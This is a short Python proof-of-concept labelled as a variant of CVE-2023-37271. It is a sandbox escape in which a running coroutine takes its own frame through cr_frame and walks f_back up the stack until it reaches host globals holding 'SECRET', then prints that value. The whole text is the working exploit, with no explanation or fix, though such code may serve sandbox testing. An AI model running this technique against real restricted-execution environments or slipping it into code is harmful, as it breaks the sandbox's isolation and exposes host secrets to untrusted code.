# CVE-2023-37271 variant: a running coroutine's cr_frame walked back to the host.
async def job():
    frame = co.cr_frame.f_back
    while frame is not None and "SECRET" not in frame.f_globals:
        frame = frame.f_back
    print(frame.f_globals["SECRET"])
co = job()
try:
    co.send(None)
except StopIteration:
    pass
